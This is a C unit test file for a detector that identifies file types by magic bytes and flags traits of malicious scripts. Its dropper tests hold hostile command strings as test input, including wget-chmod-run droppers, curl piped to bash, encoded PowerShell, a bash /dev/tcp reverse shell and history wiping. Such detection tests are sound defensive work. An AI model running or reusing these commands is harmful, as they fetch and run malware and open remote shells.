/* SPDX-License-Identifier: GPL-2.0-or-later */
/* app/magic_test.c - files by their first bytes, scripts by their words, and what is neither. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>
// clang-format off: cmocka.h needs these before it
#include <cmocka.h>
// clang-format on

#include "app/magic.h"

#define MAGIC(text) file_magic_of((const uint8_t *)(text), sizeof(text) - 1)
#define TRAITS(text) script_traits_of((const uint8_t *)(text), sizeof(text) - 1)

static void executables(void **unused)
{
	uint8_t elf[64] = { 0x7f, 'E', 'L', 'F', 1, 2, 1, [18] = 0, [19] = 8 };
	uint8_t pe[160] = { 'M', 'Z', [0x3c] = 0x80, [0x80] = 'P', 'E', 0, 0, 0x64, 0x86 };

	(void)unused;
	assert_int_equal(file_magic_of(elf, sizeof(elf)), MAGIC_ELF);
	assert_int_equal(file_machine_of(elf, sizeof(elf)), 8);
	elf[5] = 1;
	elf[18] = 40;
	elf[19] = 0;
	assert_int_equal(file_machine_of(elf, sizeof(elf)), 40);
	assert_int_equal(file_machine_of(elf, 19), 0);
	assert_int_equal(file_magic_of(pe, sizeof(pe)), MAGIC_PE);
	assert_int_equal(file_machine_of(pe, sizeof(pe)), 0x8664);
	assert_int_equal(file_magic_of(pe, 64), MAGIC_PE);
	assert_int_equal(file_machine_of(pe, 64), 0);
	pe[0x80] = 'X';
	assert_int_equal(file_magic_of(pe, sizeof(pe)), MAGIC_OTHER);
	memset(pe + 0x3c, 0xff, 4);
	assert_int_equal(file_magic_of(pe, sizeof(pe)), MAGIC_OTHER);
	assert_int_equal(file_machine_of(pe, sizeof(pe)), 0);
	assert_int_equal(MAGIC("\xcf\xfa\xed\xfe\x07\0\0\x01"), MAGIC_MACHO);
	assert_int_equal(MAGIC("\xca\xfe\xba\xbe\0\0\0\x02"), MAGIC_MACHO);
	assert_int_equal(MAGIC("\xca\xfe\xba\xbe\0\0\0\x34"), MAGIC_OTHER);
}

static void other_files(void **unused)
{
	(void)unused;
	assert_int_equal(file_magic_of(NULL, 0), MAGIC_NONE);
	assert_int_equal(MAGIC("PK\x03\x04more"), MAGIC_ARCHIVE);
	assert_int_equal(MAGIC("\x1f\x8b\x08\0"), MAGIC_ARCHIVE);
	assert_int_equal(MAGIC("%PDF-1.7\n"), MAGIC_DOCUMENT);
	assert_int_equal(MAGIC("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), MAGIC_DOCUMENT);
	assert_int_equal(MAGIC("\x89PNG\r\n\x1a\n"), MAGIC_IMAGE);
	assert_int_equal(MAGIC("RIFF....WEBPVP8"), MAGIC_IMAGE);
	assert_int_equal(MAGIC("\x01\x02\x03\xff\xfe"), MAGIC_OTHER);
	assert_int_equal(MAGIC("hello"), MAGIC_TEXT);
	assert_int_equal(MAGIC("<html>"), MAGIC_TEXT);
	assert_int_equal(MAGIC("M"), MAGIC_TEXT);
	assert_int_equal(MAGIC("#!"), MAGIC_TEXT);
	assert_int_equal(MAGIC("\n\n"), MAGIC_TEXT);
}

static void scripts(void **unused)
{
	(void)unused;
	assert_int_equal(MAGIC("#!/bin/sh\n"), MAGIC_SHELL_SCRIPT);
	assert_int_equal(MAGIC("#!/usr/bin/env bash\r\n"), MAGIC_SHELL_SCRIPT);
	assert_int_equal(MAGIC("#! /bin/busybox sh -x\n"), MAGIC_SHELL_SCRIPT);
	assert_int_equal(MAGIC("#!/usr/bin/python3\n"), MAGIC_PYTHON);
	assert_int_equal(MAGIC("#!/usr/bin/pwsh\n"), MAGIC_POWERSHELL);
	assert_int_equal(MAGIC("#!/usr/bin/perl -w\n"), MAGIC_TEXT);
	assert_int_equal(MAGIC("cd /tmp || cd /var/run; wget"), MAGIC_SHELL_SCRIPT);
	assert_int_equal(MAGIC("\xef\xbb\xbfimport os\n"), MAGIC_PYTHON);
	assert_int_equal(MAGIC("import sys,zlib;exec(1)"), MAGIC_PYTHON);
	assert_int_equal(MAGIC("from os import path\n"), MAGIC_PYTHON);
	assert_int_equal(MAGIC("import x from \"y\";\n"), MAGIC_TEXT);
	assert_int_equal(MAGIC("import java.util.List;\r\n"), MAGIC_TEXT);
	assert_int_equal(MAGIC("$c = New-Object Net.WebClient\n"), MAGIC_POWERSHELL);
	assert_int_equal(MAGIC("$ 5 is the price\n"), MAGIC_TEXT);
}

static void droppers_words(void **unused)
{
	(void)unused;
	assert_int_equal(
		TRAITS("wget http://192.0.2.1/a.mips; chmod 777 a.mips; ./a.mips\n"
		       "curl -O http://192.0.2.1/a.arm7; ./a.arm7; wget http://192.0.2.1/a.x86"),
		TRAIT_DOWNLOAD | TRAIT_RUN | TRAIT_ARCHITECTURES);
	assert_int_equal(TRAITS("/bin/busybox MIRAI"), TRAIT_BUSYBOX);
	assert_int_equal(TRAITS("cd /dev/shm; tftp -g -r x 192.0.2.1; sh x; rm -rf $0"),
		TRAIT_DOWNLOAD | TRAIT_HIDES);
	assert_int_equal(
		TRAITS("curl -s http://x.example/i.sh | bash"), TRAIT_DOWNLOAD | TRAIT_RUN);
	assert_int_equal(TRAITS("certutil -urlcache -split -f http://x/a.exe"), TRAIT_DOWNLOAD);
	assert_int_equal(TRAITS("exec(marshal.loads(zlib.decompress(base64.b64decode('eJ'))))"),
		TRAIT_DECODE_EXEC);
	assert_int_equal(
		TRAITS("powershell -nop -w hidden -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABO"),
		TRAIT_DECODE_EXEC | TRAIT_HIDES);
	assert_int_equal(TRAITS("IEX (New-Object Net.WebClient).DownloadString('http://x/a')"),
		TRAIT_DOWNLOAD | TRAIT_RUN);
	assert_int_equal(TRAITS("s=socket.socket();os.dup2(s.fileno(),0);subprocess.call('sh')"),
		TRAIT_SOCKET);
	assert_int_equal(TRAITS("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), TRAIT_SOCKET);
	assert_int_equal(TRAITS("history -c; unset HISTFILE"), TRAIT_HIDES);
}

static void innocent_words(void **unused)
{
	(void)unused;
	assert_int_equal(TRAITS("curl is a tool, wget another one. Read chmod(1)."), 0);
	assert_int_equal(TRAITS("We build for arm and x86.\n"), 0);
	assert_int_equal(TRAITS("import base64\nprint(base64.b64decode(x))\n"), 0);
	assert_int_equal(TRAITS("def evaluate(x):\n\treturn reexec(x)\n"), 0);
	assert_int_equal(TRAITS("grep -e abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuv f"), 0);
	assert_int_equal(TRAITS("#!/bin/sh\nset -e\nexit 0\n"), 0);
	assert_int_equal(TRAITS("#!/bin/sh\nchmod +x \"$out\"\n"), 0);
	assert_int_equal(script_traits_of((const uint8_t *)"", 0), 0);
	assert_int_equal(TRAITS("curl"), 0);
	assert_int_equal(TRAITS("curl "), 0);
}

/* Cut anywhere no byte beyond the end is read (a sanitizer would say so). */
static void cut_everywhere(void **unused)
{
	static const char text[] = "#!/bin/sh\ncd /tmp; wget http://192.0.2.1/arm; chmod +x arm; "
				   "./arm; powershell -enc QUFB; rm -rf $0 | bash";

	(void)unused;
	for (size_t len = 0; len < sizeof(text); len++) {
		uint8_t *copy = malloc(len ? len : 1);

		assert_non_null(copy);
		memcpy(copy, text, len);
		script_traits_of(copy, len);
		file_magic_of(copy, len);
		file_machine_of(copy, len);
		free(copy);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(executables),
		cmocka_unit_test(other_files),
		cmocka_unit_test(scripts),
		cmocka_unit_test(droppers_words),
		cmocka_unit_test(innocent_words),
		cmocka_unit_test(cut_everywhere),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
